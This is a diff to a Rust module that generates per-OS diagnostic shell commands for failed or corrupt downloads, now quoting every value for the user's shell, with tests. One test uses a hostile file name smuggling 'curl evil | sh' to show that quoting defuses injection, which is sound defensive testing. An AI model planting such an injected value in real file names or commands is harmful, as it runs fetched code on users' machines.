@@ -3,10 +3,11 @@
 //!
 //! Pure: the browser layer hands over the figures and the last verdict, and shows the findings
 //! (`#diagnosis[data-diagnosis]`) with words from `i18n` and the commands from here, filled in
-//! with the host, URL and file in question. Those values come from the validated catalog and
-//! release list (no quotes or shell metacharacters can reach here); they are single-quoted all
-//! the same.
+//! with the host, URL and file in question, each quoted for the visitor's shell
+//! (`commands::quote`): the file's name is the visitor's, and may hold anything.
 
+use crate::commands::{quote, word};
+use crate::i18n::{substitute, text, Lang};
 use crate::rank::{Figures, Status};
 use crate::verdict::Kind;
 
@@ -110,6 +111,8 @@ pub struct Subject {
     pub url: String,
     /// The file's name as saved.
     pub file: String,
+    /// The checksum the file should have, lowercase hex; empty when none is known.
+    pub sha256: String,
 }
 
 /// The host of an http(s) URL.
@@ -125,21 +128,21 @@ pub fn host_of(url: &str) -> &str {
 }
 
 /// Network checks, for a host that fails or is slow: name resolution, route, TCP and TLS,
-/// and where the time goes.
+/// and where the time goes. `{root}` is the host's `https://…/`.
 const NETWORK: &[(&str, &str)] = &[
     (
         "linux",
-        "nslookup {host}    # or: dig +short {host}\n\
-         curl -sv -o /dev/null 'https://{host}/' 2>&1 | head -n 30\n\
-         curl -s -o /dev/null -w 'dns %{time_namelookup}s connect %{time_connect}s tls %{time_appconnect}s first byte %{time_starttransfer}s\\n' 'https://{host}/'\n\
-         mtr -rw {host}    # or: traceroute {host}\n\
+        "nslookup {host}    # {or}: dig +short {host}\n\
+         curl -sv -o /dev/null {root} 2>&1 | head -n 30\n\
+         curl -s -o /dev/null -w 'dns %{time_namelookup}s connect %{time_connect}s tls %{time_appconnect}s first byte %{time_starttransfer}s\\n' {root}\n\
+         mtr -rw {host}    # {or}: traceroute {host}\n\
          openssl s_client -connect {host}:443 -servername {host} </dev/null | head -n 20",
     ),
     (
         "darwin",
-        "nslookup {host}    # or: dig +short {host}\n\
-         curl -sv -o /dev/null 'https://{host}/' 2>&1 | head -n 30\n\
-         curl -s -o /dev/null -w 'dns %{time_namelookup}s connect %{time_connect}s tls %{time_appconnect}s first byte %{time_starttransfer}s\\n' 'https://{host}/'\n\
+        "nslookup {host}    # {or}: dig +short {host}\n\
+         curl -sv -o /dev/null {root} 2>&1 | head -n 30\n\
+         curl -s -o /dev/null -w 'dns %{time_namelookup}s connect %{time_connect}s tls %{time_appconnect}s first byte %{time_starttransfer}s\\n' {root}\n\
          traceroute {host}\n\
          openssl s_client -connect {host}:443 -servername {host} </dev/null | head -n 20",
     ),
@@ -147,7 +150,8 @@ const NETWORK: &[(&str, &str)] = &[
         "windows",
         "nslookup {host}\n\
          Test-NetConnection {host} -Port 443\n\
-         curl.exe -s -o NUL -w \"dns %{time_namelookup}s connect %{time_connect}s tls %{time_appconnect}s first byte %{time_starttransfer}s`n\" 'https://{host}/'\n\
+         curl.exe -sv -o NUL {root}\n\
+         curl.exe -s -o NUL -w \"dns %{time_namelookup}s connect %{time_connect}s tls %{time_appconnect}s first byte %{time_starttransfer}s`n\" {root}\n\
          tracert {host}",
     ),
 ];
@@ -156,60 +160,156 @@ const NETWORK: &[(&str, &str)] = &[
 const SPEED: &[(&str, &str)] = &[
     (
         "linux",
-        "curl -o /dev/null -w 'speed %{speed_download} bytes/s, total %{time_total}s\\n' '{url}'\n\
-         wget -O /dev/null '{url}'",
+        "curl -o /dev/null -w 'speed %{speed_download} bytes/s, total %{time_total}s\\n' {url}\n\
+         wget -O /dev/null {url}",
     ),
     (
         "darwin",
-        "curl -o /dev/null -w 'speed %{speed_download} bytes/s, total %{time_total}s\\n' '{url}'",
+        "curl -o /dev/null -w 'speed %{speed_download} bytes/s, total %{time_total}s\\n' {url}",
     ),
     (
         "windows",
-        "curl.exe -o NUL -w \"speed %{speed_download} bytes/s, total %{time_total}s`n\" '{url}'",
+        "curl.exe -o NUL -w \"speed %{speed_download} bytes/s, total %{time_total}s`n\" {url}",
     ),
 ];
 
-/// A file that is not what it should be: its hash, size and first bytes; then a clean
-/// download (resumed where it was cut off, without transparent decompression).
+/// A file that is not what it should be: its hash, size and first bytes; what the server sends
+/// (redirects, type, size, transport compression); a clean download, resumed (`{resume}`) only
+/// where the file was cut short, since anything else would keep the bad bytes; then, where the
+/// checksum is known, `CHECK`.
 const BAD_FILE: &[(&str, &str)] = &[
     (
         "linux",
-        "sha256sum '{file}'\n\
-         ls -l '{file}'\n\
-         file '{file}'; head -c 300 '{file}' | strings | head\n\
-         curl -fL -C - -o '{file}' '{url}'",
+        "sha256sum {file}\n\
+         ls -l {file}\n\
+         file {file}; head -c 300 {file} | strings | head\n\
+         # {headers}\n\
+         curl -sIL -H 'Accept-Encoding: gzip' {url} | grep -iE '^(HTTP|location|content-(type|length|encoding))'\n\
+         # {again}\n\
+         curl -fL {resume}-o {file} {url}",
     ),
     (
         "darwin",
-        "shasum -a 256 '{file}'\n\
-         ls -l '{file}'\n\
-         file '{file}'; head -c 300 '{file}' | strings | head\n\
-         curl -fL -C - -o '{file}' '{url}'",
+        "shasum -a 256 {file}\n\
+         ls -l {file}\n\
+         file {file}; head -c 300 {file} | strings | head\n\
+         # {headers}\n\
+         curl -sIL -H 'Accept-Encoding: gzip' {url} | grep -iE '^(HTTP|location|content-(type|length|encoding))'\n\
+         # {again}\n\
+         curl -fL {resume}-o {file} {url}",
     ),
     (
         "windows",
-        "Get-FileHash '{file}' -Algorithm SHA256\n\
-         (Get-Item '{file}').Length\n\
-         Get-Content '{file}' -TotalCount 5\n\
-         curl.exe -fL -C - -o '{file}' '{url}'",
+        "Get-FileHash {file} -Algorithm SHA256\n\
+         (Get-Item {file}).Length\n\
+         Get-Content {file} -TotalCount 5\n\
+         # {headers}\n\
+         curl.exe -sIL -H 'Accept-Encoding: gzip' {url} | Select-String '^(HTTP|location|content-(type|length|encoding))'\n\
+         # {again}\n\
+         curl.exe -fL {resume}-o {file} {url}",
     ),
 ];
 
-/// The commands that confirm `finding` on `os` (`linux`, `darwin`, `windows`).
-pub fn commands(finding: Finding, os: &str, subject: &Subject) -> Option<String> {
+/// After a new download: whether it is the official file.
+const CHECK: &[(&str, &str)] = &[
+    ("linux", "echo {check} | sha256sum -c -"),
+    ("darwin", "echo {check} | shasum -a 256 -c -"),
+    (
+        "windows",
+        "(Get-FileHash {file} -Algorithm SHA256).Hash -eq {sha256}",
+    ),
+];
+
+/// A mirror that serves another file than the official host: both answers side by side.
+const STALE: &[(&str, &str)] = &[
+    (
+        "linux",
+        "# {mirror-says}\n\
+         curl -sIL {url} | grep -iE '^(HTTP|content-length)'\n\
+         # {official-says}\n\
+         curl -sIL {official} | grep -iE '^(HTTP|content-length)'",
+    ),
+    (
+        "darwin",
+        "# {mirror-says}\n\
+         curl -sIL {url} | grep -iE '^(HTTP|content-length)'\n\
+         # {official-says}\n\
+         curl -sIL {official} | grep -iE '^(HTTP|content-length)'",
+    ),
+    (
+        "windows",
+        "# {mirror-says}\n\
+         curl.exe -sIL {url} | Select-String '^(HTTP|content-length)'\n\
+         # {official-says}\n\
+         curl.exe -sIL {official} | Select-String '^(HTTP|content-length)'",
+    ),
+];
+
+fn template(table: &[(&str, &'static str)], os: &str) -> Option<&'static str> {
+    table.iter().find(|(o, _)| *o == os).map(|(_, t)| *t)
+}
+
+/// The commands that confirm `finding` on `os` (`linux`, `darwin`, `windows`), with comments
+/// in `lang`; every value quoted for that OS's shell.
+pub fn commands(lang: Lang, finding: Finding, os: &str, subject: &Subject) -> Option<String> {
+    let Subject {
+        host,
+        url,
+        file,
+        sha256,
+    } = subject;
     let table = match finding {
         Finding::AllUnreachable | Finding::OfficialUnreachable => NETWORK,
         Finding::Slow => SPEED,
         Finding::BadFile(_) => BAD_FILE,
         Finding::Ok => return None,
     };
-    let (_, template) = table.iter().find(|(o, _)| *o == os)?;
-    Some(
-        template
-            .replace("{host}", &subject.host)
-            .replace("{url}", &subject.url)
-            .replace("{file}", &subject.file),
-    )
+    let mut template = self::template(table, os)?.to_string();
+    if matches!(finding, Finding::BadFile(_)) && !sha256.is_empty() {
+        template.push('\n');
+        template.push_str(self::template(CHECK, os)?);
+    }
+    let resume = finding == Finding::BadFile(Kind::Truncated);
+    let root = quote(os, &format!("https://{host}/"));
+    let check = quote(os, &format!("{sha256}  {file}"));
+    let (host, url, file, sha256) = (
+        word(os, host),
+        quote(os, url),
+        quote(os, file),
+        quote(os, sha256),
+    );
+    Some(substitute(
+        &template,
+        &[
+            ("host", &host),
+            ("root", &root),
+            ("url", &url),
+            ("file", &file),
+            ("sha256", &sha256),
+            ("check", &check),
+            ("resume", if resume { "-C - " } else { "" }),
+            ("or", text(lang, "cmd-or")),
+            ("headers", text(lang, "cmd-headers")),
+            (
+                "again",
+                text(lang, if resume { "cmd-resume" } else { "cmd-again" }),
+            ),
+        ],
+    ))
+}
+
+/// The commands that show a stale mirror's answer for `url` beside the official `official`.
+pub fn stale_commands(lang: Lang, os: &str, url: &str, official: &str) -> Option<String> {
+    let (url, official) = (quote(os, url), quote(os, official));
+    Some(substitute(
+        template(STALE, os)?,
+        &[
+            ("url", &url),
+            ("official", &official),
+            ("mirror-says", text(lang, "cmd-mirror-says")),
+            ("official-says", text(lang, "cmd-official-says")),
+        ],
+    ))
 }
 
 #[cfg(test)]
@@ -319,39 +419,124 @@ mod tests {
         }
     }
 
-    #[test]
-    fn commands_are_filled_in_per_os() {
-        let subject = Subject {
+    fn subject() -> Subject {
+        Subject {
             host: "dl.google.com".into(),
             url: "https://dl.google.com/go/go1.22.0.linux-amd64.tar.gz".into(),
             file: "go1.22.0.linux-amd64.tar.gz".into(),
-        };
-        let net = commands(Finding::AllUnreachable, "linux", &subject).unwrap();
+            sha256: "f6c8a87aa03b92c4b0bf3d558e28ea03006eb29db78917daec5cfb6ec1046265".into(),
+        }
+    }
+
+    fn run(finding: Finding, os: &str, subject: &Subject) -> String {
+        commands(Lang::En, finding, os, subject).unwrap()
+    }
+
+    #[test]
+    fn network_and_speed_commands_per_os() {
+        let subject = subject();
+        let net = run(Finding::AllUnreachable, "linux", &subject);
         assert!(net.starts_with("nslookup dl.google.com    # or: dig +short dl.google.com\n"));
+        assert!(net.contains("curl -sv -o /dev/null 'https://dl.google.com/' 2>&1"));
         assert!(net.contains("%{time_connect}"));
         assert!(net.contains("openssl s_client -connect dl.google.com:443"));
-        let win = commands(Finding::OfficialUnreachable, "windows", &subject).unwrap();
+        let win = run(Finding::OfficialUnreachable, "windows", &subject);
         assert!(win.contains("tracert dl.google.com"));
         assert!(win.contains("Test-NetConnection dl.google.com -Port 443"));
-        let mac = commands(Finding::BadFile(Kind::Mismatch), "darwin", &subject).unwrap();
-        assert!(mac.starts_with("shasum -a 256 'go1.22.0.linux-amd64.tar.gz'"));
-        let speed = commands(Finding::Slow, "linux", &subject).unwrap();
-        assert!(speed.contains(&subject.url));
-        let win_file = commands(Finding::BadFile(Kind::Html), "windows", &subject).unwrap();
-        assert!(win_file.contains("Get-FileHash 'go1.22.0.linux-amd64.tar.gz' -Algorithm SHA256"));
+        assert!(win.contains("curl.exe -sv -o NUL 'https://dl.google.com/'"));
+        let zh = commands(Lang::Zh, Finding::AllUnreachable, "linux", &subject).unwrap();
+        assert!(
+            zh.starts_with("nslookup dl.google.com    # 或: dig"),
+            "{zh}"
+        );
+        let speed = run(Finding::Slow, "linux", &subject);
+        assert!(speed.contains(&format!("'{}'", subject.url)));
         for finding in [
             Finding::AllUnreachable,
             Finding::Slow,
             Finding::BadFile(Kind::Html),
         ] {
             for os in ["linux", "darwin", "windows"] {
-                let c = commands(finding, os, &subject).unwrap();
-                for hole in ["{host}", "{url}", "{file}"] {
+                let c = run(finding, os, &subject);
+                for hole in [
+                    "{host}", "{root}", "{url}", "{file}", "{sha256}", "{check}", "{or}",
+                ] {
                     assert!(!c.contains(hole), "{c}");
                 }
             }
         }
-        assert_eq!(commands(Finding::Ok, "linux", &subject), None);
-        assert_eq!(commands(Finding::Slow, "plan9", &subject), None);
+        assert_eq!(commands(Lang::En, Finding::Ok, "linux", &subject), None);
+        assert_eq!(commands(Lang::En, Finding::Slow, "plan9", &subject), None);
+    }
+
+    #[test]
+    fn only_a_cut_file_is_resumed() {
+        let subject = subject();
+        let (file, url) = (&subject.file, &subject.url);
+        let cut = run(Finding::BadFile(Kind::Truncated), "linux", &subject);
+        assert!(
+            cut.contains(&format!("curl -fL -C - -o '{file}' '{url}'")),
+            "{cut}"
+        );
+        for kind in [
+            Kind::Html,
+            Kind::Decompressed,
+            Kind::DoubleGzip,
+            Kind::Oversized,
+            Kind::Mismatch,
+            Kind::WrongFile,
+        ] {
+            for os in ["linux", "darwin", "windows"] {
+                let c = run(Finding::BadFile(kind), os, &subject);
+                assert!(!c.contains("-C -"), "{kind:?} {os}: {c}");
+                assert!(c.contains(&format!("-fL -o '{file}' '{url}'")), "{c}");
+                // What the server sends, transport compression included.
+                assert!(c.contains("-sIL -H 'Accept-Encoding: gzip'"), "{c}");
+            }
+        }
+    }
+
+    #[test]
+    fn a_new_download_is_checked_when_the_checksum_is_known() {
+        let mut subject = subject();
+        let (sha, file) = (subject.sha256.clone(), subject.file.clone());
+        let linux = run(Finding::BadFile(Kind::Mismatch), "linux", &subject);
+        assert!(linux.ends_with(&format!("\necho '{sha}  {file}' | sha256sum -c -")));
+        assert!(linux.starts_with(&format!("sha256sum '{file}'\n")));
+        let mac = run(Finding::BadFile(Kind::Mismatch), "darwin", &subject);
+        assert!(mac.starts_with(&format!("shasum -a 256 '{file}'")));
+        assert!(mac.ends_with("| shasum -a 256 -c -"));
+        let win = run(Finding::BadFile(Kind::Html), "windows", &subject);
+        assert!(win.starts_with(&format!("Get-FileHash '{file}' -Algorithm SHA256\n")));
+        assert!(win.ends_with(&format!(
+            "(Get-FileHash '{file}' -Algorithm SHA256).Hash -eq '{sha}'"
+        )));
+        subject.sha256.clear();
+        let unknown = run(Finding::BadFile(Kind::Mismatch), "linux", &subject);
+        assert!(!unknown.contains("sha256sum -c"), "{unknown}");
+        assert!(unknown.ends_with(&format!("-o '{file}' '{}'", subject.url)));
+    }
+
+    #[test]
+    fn a_hostile_file_name_stays_one_quoted_word() {
+        let mut subject = subject();
+        subject.file = "go'; curl evil | sh; '.tar.gz".into();
+        let linux = run(Finding::BadFile(Kind::Html), "linux", &subject);
+        assert!(linux.starts_with("sha256sum 'go'\\''; curl evil | sh; '\\''.tar.gz'\n"));
+        let win = run(Finding::BadFile(Kind::Html), "windows", &subject);
+        assert!(win.starts_with("Get-FileHash 'go''; curl evil | sh; ''.tar.gz' -Algorithm"));
+    }
+
+    #[test]
+    fn stale_mirror_against_the_official_host() {
+        let mirror = "https://mirror.example/golang/go1.22.0.linux-amd64.tar.gz";
+        let official = "https://dl.google.com/go/go1.22.0.linux-amd64.tar.gz";
+        let linux = stale_commands(Lang::En, "linux", mirror, official).unwrap();
+        assert!(linux.contains(&format!("curl -sIL '{mirror}' | grep -iE")));
+        assert!(linux.contains(&format!("curl -sIL '{official}' | grep -iE")));
+        let win = stale_commands(Lang::Zh, "windows", mirror, official).unwrap();
+        assert!(win.contains(&format!("curl.exe -sIL '{mirror}' | Select-String")));
+        assert!(!win.contains('{'), "{win}");
+        assert_eq!(stale_commands(Lang::En, "plan9", mirror, official), None);
     }
 }
